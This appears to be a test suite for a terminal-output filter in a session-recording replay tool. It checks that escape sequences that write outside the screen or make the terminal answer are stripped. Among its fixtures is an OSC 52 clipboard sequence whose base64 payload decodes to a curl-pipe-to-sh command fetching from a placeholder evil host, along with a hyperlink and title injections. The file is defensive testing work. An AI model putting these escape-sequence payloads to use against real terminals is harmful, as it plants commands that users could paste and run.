// The terminal filter (src/replay/terminal-filter.ts): what a recording may write to the
// auditor's terminal. A table of sequences that pass byte for byte and of sequences that are
// dropped, each also split at every byte offset; a fuzz test that nothing that writes outside
// the screen or asks the terminal to answer ever comes out, whatever the input and its cuts, and
// that the text is kept; and the screens of real and generated sessions are the same filtered.
import fc from 'fast-check';
import { readdirSync, statSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { Parser } from '../../src/replay/parser.js';
import { repaintScreen } from '../../src/replay/screen-repaint.js';
import { Screen } from '../../src/replay/screen.js';
import { filterTerminalOutput, TerminalFilter } from '../../src/replay/terminal-filter.js';
import { randomSession } from './helpers/random-session.js';
import { RecordingHandler } from './helpers/recording-handler.js';
import { readSudoSession, sampleTtySessions } from './helpers/sample-sessions.js';
import { scenarios } from './helpers/scenarios.js';
import type { SessionEvent } from './helpers/session-events.js';

const enc = new TextEncoder();
const dec = new TextDecoder();
const E = '\x1b';
const bytes = (s: string): Uint8Array => enc.encode(s);
/** A string of raw bytes (each char code one byte), for C1 and invalid UTF-8. */
const raw = (s: string): Uint8Array => Uint8Array.from([...s].map((c) => c.charCodeAt(0)));

function concat(parts: Uint8Array[]): Uint8Array {
  const out = new Uint8Array(parts.reduce((n, p) => n + p.length, 0));
  let off = 0;
  for (const p of parts) {
    out.set(p, off);
    off += p.length;
  }
  return out;
}

/** The input through one filter, cut into `chunks`. */
function filterChunks(chunks: Uint8Array[]): Uint8Array {
  const f = new TerminalFilter();
  const out = chunks.map((c) => f.write(c));
  out.push(f.end());
  return concat(out);
}

/** The filter's output; the same input cut in two at every offset must give the same bytes. */
function filtered(data: Uint8Array): Uint8Array {
  const whole = filterChunks([data]);
  for (let k = 0; k <= data.length; k++) {
    const split = filterChunks([data.subarray(0, k), data.subarray(k)]);
    if (Buffer.compare(split, whole) !== 0) expect(Buffer.from(split).toString('latin1'), `split at ${k} of ${JSON.stringify(Buffer.from(data).toString('latin1'))}`).toBe(Buffer.from(whole).toString('latin1'));
  }
  // And cut before every byte.
  const single = filterChunks(Array.from(data, (_, k) => data.subarray(k, k + 1)));
  expect(Buffer.compare(single, whole)).toBe(0);
  return whole;
}

const OSC52 = `${E}]52;c;Y3VybCAtcyBodHRwOi8vZXZpbC5leGFtcGxlL3ggfCBzaA0=`;

/** Sequences a screen needs: they pass byte for byte. */
const ALLOWED: Array<[string, string]> = [
  ['text', 'hello, world'],
  ['UTF-8 text', 'héllo wörld 日本 😀 e\u0301'],
  ['CR LF TAB BS BEL', 'a\r\nb\tc\bd\x07'],
  ['VT FF SO SI', '\x0b\x0c\x0e\x0f'],
  ['SGR reset', `${E}[m${E}[0m`],
  ['SGR colours', `${E}[01;31m${E}[38;5;196m${E}[48;2;10;20;30m${E}[00m`],
  ['SGR colon forms', `${E}[38:2::255:0:0m${E}[4:3m${E}[58:5:9m`],
  ['CUP HVP home', `${E}[H${E}[12;40H${E}[;5H${E}[2;5f`],
  ['cursor moves', `${E}[5A${E}[B${E}[3C${E}[2D${E}[E${E}[2F${E}[10G${E}[3d${E}[4\`${E}[2a${E}[e`],
  ['erase', `${E}[J${E}[2J${E}[3J${E}[K${E}[1K${E}[2K${E}[5X${E}[?2J${E}[?1K`],
  ['insert and delete', `${E}[3L${E}[2M${E}[4P${E}[2@${E}[3b`],
  ['scrolling', `${E}[1;20r${E}[r${E}[3S${E}[2T${E}D${E}M${E}E`],
  ['tabs', `${E}H${E}[3g${E}[g${E}[2I${E}[Z`],
  ['charsets', `${E}(0lqk${E}(B${E})0${E}*B${E}+A${E}-A${E}(%5${E}n${E}o${E}~${E}}${E}|`],
  ['cursor visibility', `${E}[?25l${E}[?25h${E}[?12;25h${E}[?12l`],
  ['alternate screen', `${E}[?1049h${E}[?1049l${E}[?47h${E}[?47l${E}[?1047h${E}[?1048l`],
  ['autowrap, origin, reverse wrap, margins mode', `${E}[?7l${E}[?7h${E}[?6h${E}[?6l${E}[?45h${E}[?69h${E}[?5h${E}[?5l`],
  ['application cursor keys and keypad', `${E}[?1h${E}=${E}[?1l${E}>${E}[?66h`],
  ['insert mode, newline mode', `${E}[4h${E}[4l${E}[20h${E}[20l`],
  ['save and restore', `${E}7${E}8${E}[s${E}[u${E}[5;70s`],
  ['soft and hard reset', `${E}[!p${E}c`],
  ['cursor style', `${E}[2 q${E}[ q`],
  ['line attributes, alignment', `${E}#8${E}#3${E}#6`],
  ['scroll left/right, insert/delete column', `${E}[2 @${E}[ A${E}[3'}${E}['~`],
  ['C1 CSI and C1 controls as UTF-8', '\u009b1m\u0084\u0085\u0088\u008d'],
  ['a sudo-like prompt', `${E}[01;31mroot@db01${E}[00m:~# ls\r\nREADME\r\n`],
];

/** Sequences that write outside the screen or make the terminal answer: dropped. [name, input, output] */
const DROPPED: Array<[string, string, string]> = [
  ['OSC 52 clipboard (BEL)', `a${OSC52}\x07b`, 'ab'],
  ['OSC 52 clipboard (ST)', `a${OSC52}${E}\\b`, 'ab'],
  ['OSC 52 clipboard (C1 OSC, C1 ST)', `a\u009d52;c;eA==\u009cb`, 'ab'],
  ['OSC 52 query', `${E}]52;c;?\x07`, ''],
  ['OSC 0/1/2 titles', `${E}]0;pwned\x07${E}]1;icon\x07${E}]2;title${E}\\x`, 'x'],
  ['OSC 4/10/11/12 colours', `${E}]4;1;rgb:ff/00/00\x07${E}]4;1;?\x07${E}]10;?\x07${E}]11;#000000\x07${E}]12;red\x07`, ''],
  ['OSC 7 cwd, 8 hyperlink', `${E}]7;file://evil/tmp\x07${E}]8;;http://evil.example/${E}\\link${E}]8;;${E}\\`, 'link'],
  ['OSC 50 font, 777 notify, 1337, 133', `${E}]50;?\x07${E}]777;notify;hi;there\x07${E}]1337;File=x\x07${E}]133;A\x07`, ''],
  ['OSC without a number, aborted OSC', `${E}]foo\x07${E}]2;x\x18y`, 'y'],
  ['DCS DECRQSS, XTGETTCAP, sixel', `${E}P$qm${E}\\${E}P+q544e${E}\\${E}Pq#0;2;0;0;0~~${E}\\z`, 'z'],
  ['tmux passthrough of OSC 52', `${E}Ptmux;${E}${E}]52;c;eA==\x07${E}\\`, ''],
  ['APC, PM, SOS', `${E}_Gf=100;AAAA${E}\\${E}^pm${E}\\${E}Xsos${E}\\\u009fapc\u009c`, ''],
  ['DA1, DA2, DA3', `${E}[c${E}[0c${E}[>c${E}[>0c${E}[=c${E}[=0c`, ''],
  ['DSR and CPR', `${E}[5n${E}[6n${E}[?6n${E}[?15n${E}[>0n`, ''],
  ['XTVERSION', `${E}[>q${E}[>0q`, ''],
  ['DECRQM', `${E}[?2004$p${E}[4$p${E}[?1049$p`, ''],
  ['window operations', `${E}[8;100;300t${E}[14t${E}[21t${E}[3;0;0t${E}[22;0t${E}[2t${E}[9;1t${E}[>2t`, ''],
  ['mouse tracking', `${E}[?9h${E}[?1000h${E}[?1001h${E}[?1002h${E}[?1003h${E}[?1005h${E}[?1006h${E}[?1015h${E}[?1016h${E}[5;1;1;1;1T`, ''],
  ['focus reports, bracketed paste, DECCOLM, meta key, synchronized output', `${E}[?1004h${E}[?2004h${E}[?3h${E}[?1034h${E}[?2026h${E}[?67h`, ''],
  ['ENQ, NUL, CAN, SUB, DEL', 'a\x05\x00\x18\x1a\x7fb', 'ab'],
  ['keyboard protocols, modifier keys', `${E}[>1u${E}[<u${E}[=1;1u${E}[?u${E}[>4;2m${E}[>4n${E}[>1p`, ''],
  ['DECID (ESC Z, C1)', `${E}Z\u009a`, ''],
  ['media copy (printer)', `${E}[5i${E}[4i${E}[?5i${E}[i`, ''],
  ['rectangle checksum, conformance level, presentation reports', `${E}[1;1;1;1;1;1*y${E}[62;1"p${E}[1$w${E}[1;1;5;5$x`, ''],
  ['leaving UTF-8, 8-bit answers', `${E}%@${E}%G${E} G${E} F`, ''],
  ['XTSAVE/XTRESTORE of modes, XTPUSHCOLORS', `${E}[?1000s${E}[?1000r${E}[#P${E}[#Q`, ''],
  ['sub-parameters outside SGR', `${E}[1:2:3:4:5T${E}[?1049:1h`, ''],
  ['a voided CSI', `${E}[1?c${E}[?1;?2hx`, 'x'],
  ['an abandoned CSI', `${E}[1;${E}]52;c;eA==\x07y`, 'y'],
];

/** Partly allowed mode sequences are written again with the allowed modes only. */
const REWRITTEN: Array<[string, string, string]> = [
  ['DECSET with mouse modes', `${E}[?1049;1000;1006h`, `${E}[?1049h`],
  ['DECRST with focus reports', `${E}[?1004;25;2004l`, `${E}[?25l`],
  ['SM with KAM', `${E}[2;4h`, `${E}[4h`],
  ['leading zeros', `${E}[?0025l`, `${E}[?25l`],
  ['C1 CSI DECSET', '\u009b?25h', `${E}[?25h`],
  ['C0 inside a sequence runs before it', `${E}[1\n;2H`, `\n${E}[1;2H`],
];

describe('terminal filter: the table', () => {
  it.each(ALLOWED)('passes %s byte for byte', (_name, s) => {
    const input = bytes(`<${s}>`);
    expect(Buffer.from(filtered(input)).toString('latin1')).toBe(Buffer.from(input).toString('latin1'));
  });

  it.each(DROPPED)('drops %s', (_name, s, want) => {
    expect(dec.decode(filtered(bytes(s)))).toBe(want);
    // Between text, nothing else changes.
    expect(dec.decode(filtered(bytes(`[${s}]${E}[1m`)))).toBe(`[${want}]${E}[1m`);
  });

  it.each(REWRITTEN)('rewrites %s', (_name, s, want) => {
    expect(dec.decode(filtered(bytes(s)))).toBe(want);
  });

  it('writes invalid UTF-8 as U+FFFD: a raw C1 byte is never passed on', () => {
    // 0x9D alone is OSC to a terminal in 8-bit mode; as UTF-8 it is invalid.
    expect(dec.decode(filtered(raw('a\x9d52;c;eA==\x07b')))).toBe('a\ufffd52;c;eA==\x07b');
    expect(dec.decode(filtered(raw('a\xc3')))).toBe('a\ufffd');
    const out = filtered(raw('\x9b6n\x90q\x9c\x9f'));
    expect(dec.decode(out)).toBe('\ufffd6n\ufffdq\ufffd\ufffd');
  });

  it('drops a sequence longer than the kept length, however it is cut', () => {
    const long = `${E}[${'1;'.repeat(600)}1m`;
    expect(dec.decode(filtered(bytes(`a${long}b`)))).toBe('ab');
    const fits = `${E}[${'1;'.repeat(200)}1m`;
    expect(dec.decode(filtered(bytes(`a${fits}b`)))).toBe(`a${fits}b`);
  });

  it('judges a sequence split over many records as one', () => {
    const f = new TerminalFilter();
    const parts = [`a${E}`, ']5', '2;c;', 'eA==', '\x07', `b${E}[`, '?100', '0h', `${E}[?10`, '49h', 'c'];
    const out = parts.map((p) => dec.decode(f.write(bytes(p))));
    expect(out).toEqual(['a', '', '', '', '', 'b', '', '', '', `${E}[?1049h`, 'c']);
  });
});

// --- fuzz ---------------------------------------------------------------------------------

const utf8 = new TextDecoder('utf-8', { fatal: true });

/** Why `out` must not reach a terminal, or null; checked on the bytes, not with the filter's parser. */
function forbidden(out: Uint8Array): string | null {
  try {
    // Valid UTF-8: no raw 0x80-0x9F byte (a C1 control to a terminal in 8-bit mode).
    utf8.decode(out);
  } catch {
    return `not UTF-8: ${JSON.stringify(Buffer.from(out).toString('latin1'))}`;
  }
  const s = Buffer.from(out).toString('latin1');
  const checks: Array<[string, RegExp]> = [
    ['OSC, DCS, APC, PM or SOS', /\x1b[\]P_^X]|\xc2[\x90\x98\x9d\x9e\x9f]/],
    ['ENQ or NUL', /[\x05\x00]/],
    ['DECID, leaving UTF-8, 8-bit answers', /\x1b(?:Z|%|\x20[FG])|\xc2\x9a/],
  ];
  for (const [name, re] of checks) if (re.test(s)) return `${name}: ${JSON.stringify(s)}`;
  // Every CSI sequence: private marker, parameters, intermediates, final.
  for (const m of s.matchAll(/(?:\x1b\[|\xc2\x9b)([<=>?]?)([\x30-\x3f\x7f]*)([\x20-\x2f]*)([\x40-\x7e])/g)) {
    const [seq, marker, params, inter, final] = m as unknown as [string, string, string, string, string];
    const bad = (why: string) => `${why}: ${JSON.stringify(seq)}`;
    if (marker !== '' && marker !== '?') return bad('private marker < = >');
    if ('cntixy'.includes(final)) return bad('a report, window operation or printer');
    if (final === 'q' && inter !== ' ' && inter !== '"') return bad('XTVERSION or DECLL');
    if (final === 'p' && inter !== '!') return bad('DECRQM or DECSCL');
    if (/[$*#+,]/.test(inter)) return bad('a request or rectangle operation');
    if (marker === '?' && 'hl'.includes(final) && params.split(';').some((p) => /^(9|100[0-6]|1015|1016|2004|3|2)$/.test(p))) return bad('a reporting mode');
    if (marker === '?' && 'sr'.includes(final)) return bad('XTSAVE/XTRESTORE');
    if (final === 'T' && params.includes(';')) return bad('mouse highlight tracking');
  }
  return null;
}

/** Everything dispatched when the output is parsed again is on the allow-list. */
function parsedAgainIsSafe(out: Uint8Array): boolean {
  const h = new RecordingHandler();
  const p = new Parser(h);
  p.write(out);
  p.end();
  return h.events.every((e) => e[0] === 'print' || e[0] === 'execute' || e[0] === 'csi' || e[0] === 'esc');
}

const pieces = [...ALLOWED.map(([, s]) => s), ...DROPPED.map(([, s]) => s), ...REWRITTEN.map(([, s]) => s), OSC52, `${E}]2;`, `${E}P`, `${E}[`, `${E}[?`, `${E}[>`, E, '\x07', `${E}\\`, '\u009d', '\u009b', '\x9b', '\xc2', '\x18'];

const chunked = (data: Uint8Array, cuts: number[]): Uint8Array[] => {
  const at = [...new Set(cuts.map((c) => c % (data.length + 1)))].sort((a, b) => a - b);
  const out: Uint8Array[] = [];
  let prev = 0;
  for (const c of at) {
    out.push(data.subarray(prev, c));
    prev = c;
  }
  out.push(data.subarray(prev));
  return out;
};

describe('terminal filter: fuzz', () => {
  it('never lets out a string, a report request, a reporting mode or a raw C1 byte, however the input is cut', () => {
    const piece = fc.oneof(
      fc.constantFrom(...pieces).map((s) => (s === '\x9b' || s === '\xc2' ? raw(s) : bytes(s))),
      fc.uint8Array({ maxLength: 12 }),
      fc.string({ maxLength: 8 }).map(bytes),
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 24 }), fc.array(fc.nat(), { maxLength: 6 }), (parts, cuts) => {
        const data = concat(parts);
        const whole = filterChunks([data]);
        expect(forbidden(whole)).toBeNull();
        expect(parsedAgainIsSafe(whole)).toBe(true);
        expect(Buffer.compare(filterChunks(chunked(data, cuts)), whole)).toBe(0);
        // The filter's output is a fixed point: filtering it again changes nothing.
        expect(Buffer.compare(filterTerminalOutput(whole), whole)).toBe(0);
      }),
      { numRuns: 1500, seed: 20261122 },
    );
  });

  it('keeps the text: between any sequences, every printed character comes out in order', () => {
    // Sequences that print nothing themselves, allowed or dropped.
    const printsNothing = (s: string) => {
      const h = new RecordingHandler();
      new Parser(h).write(bytes(s));
      return !h.events.some((e) => e[0] === 'print');
    };
    const sequences = [...ALLOWED, ...DROPPED, ...REWRITTEN].map(([, s]) => s).filter(printsNothing);
    expect(sequences.length).toBeGreaterThan(40);
    const text = fc.string({ minLength: 1, maxLength: 10, unit: fc.oneof(fc.constantFrom(...'abc xyz;[]?0123'), fc.constantFrom('é', '日', '😀', '\u00a0')) });
    fc.assert(
      fc.property(fc.array(fc.oneof(text.map((t) => ({ t })), fc.constantFrom(...sequences).map((s) => ({ s }))), { maxLength: 20 }), fc.array(fc.nat(), { maxLength: 4 }), (parts, cuts) => {
        const data = bytes(parts.map((p) => ('t' in p ? p.t : p.s)).join(''));
        const out = filterChunks(chunked(data, cuts));
        // The printed text of the output, read back by the parser, is the input's text.
        const h = new RecordingHandler();
        const p = new Parser(h);
        p.write(out);
        p.end();
        const printed = h.events.filter((e) => e[0] === 'print').map((e) => e[1]).join('');
        const want = parts.filter((x) => 't' in x).map((x) => (x as { t: string }).t).join('');
        expect(printed).toBe(want);
      }),
      { numRuns: 800, seed: 7 },
    );
  });
});

// --- fidelity: what is dropped never changed the screen ----------------------------------------

/** The real vim, htop, mc, less, man ... sessions of fixtures/iolog/screen-corpus (XX/YY/ZZ). */
function corpusDirs(): string[] {
  const root = new URL('../../fixtures/iolog/screen-corpus', import.meta.url).pathname;
  const out: string[] = [];
  const walk = (dir: string, depth: number): void => {
    for (const name of readdirSync(dir).sort()) {
      const p = join(dir, name);
      if (!statSync(p).isDirectory()) continue;
      if (depth === 2) out.push(p);
      else walk(p, depth + 1);
    }
  };
  walk(root, 0);
  return out;
}

function rows(screen: Screen): string[] {
  const out: string[] = [];
  for (let y = 0; y < screen.rows; y++) out.push(screen.row(y).translateToString(true));
  return out;
}

/** Feeds a session raw and filtered to two screen models; compares them at `cuts` points and at the end. */
function compareFiltered(name: string, events: SessionEvent[], cols: number, rows_: number, cuts: number): number {
  const a = new Screen({ cols, rows: rows_ });
  const b = new Screen({ cols, rows: rows_ });
  const f = new TerminalFilter();
  const every = Math.max(1, Math.floor(events.length / cuts));
  let compared = 0;
  events.forEach((e, i) => {
    if (e.kind === 'data') {
      a.write(e.bytes);
      b.write(f.write(e.bytes));
    } else {
      a.resize(e.cols, e.rows);
      b.resize(e.cols, e.rows);
    }
    if (i % every === 0 || i === events.length - 1) {
      expect({ rows: rows(b), x: b.cursorX, y: b.cursorY }, `${name} after event ${i}`).toEqual({ rows: rows(a), x: a.cursorX, y: a.cursorY });
      compared++;
    }
  });
  return compared;
}

describe('terminal filter: the screen is the same', () => {
  it('for the generated scenarios, the tty samples, real vim/htop/mc/less sessions and random sessions', () => {
    const sessions: Array<{ name: string; events: SessionEvent[]; cols: number; rows: number }> = [
      ...scenarios().map((s) => ({ name: s.name, events: s.session.events, cols: s.cols, rows: s.rows })),
      ...corpusDirs().map((d) => ({ ...readSudoSession(d), name: d })),
      ...sampleTtySessions().map((s) => ({ name: s.name, events: s.events, cols: s.cols, rows: s.rows })),
      ...Array.from({ length: 30 }, (_, i) => ({ name: `random ${i}`, events: randomSession(1000 + i, 80, 24), cols: 80, rows: 24 })),
    ];
    expect(sessions.length).toBeGreaterThan(50);
    let compared = 0;
    for (const s of sessions) compared += compareFiltered(s.name, s.events, s.cols, s.rows, 40);
    expect(compared).toBeGreaterThan(1500);
  });

  it('passes the player repaint of each scenario unchanged', () => {
    for (const s of scenarios()) {
      const screen = new Screen({ cols: s.cols, rows: s.rows });
      for (const e of s.session.events) {
        if (e.kind === 'data') screen.write(e.bytes);
        else screen.resize(e.cols, e.rows);
      }
      const repaint = bytes(repaintScreen(screen));
      expect(dec.decode(filterTerminalOutput(repaint)), s.name).toBe(dec.decode(repaint));
    }
  });
});
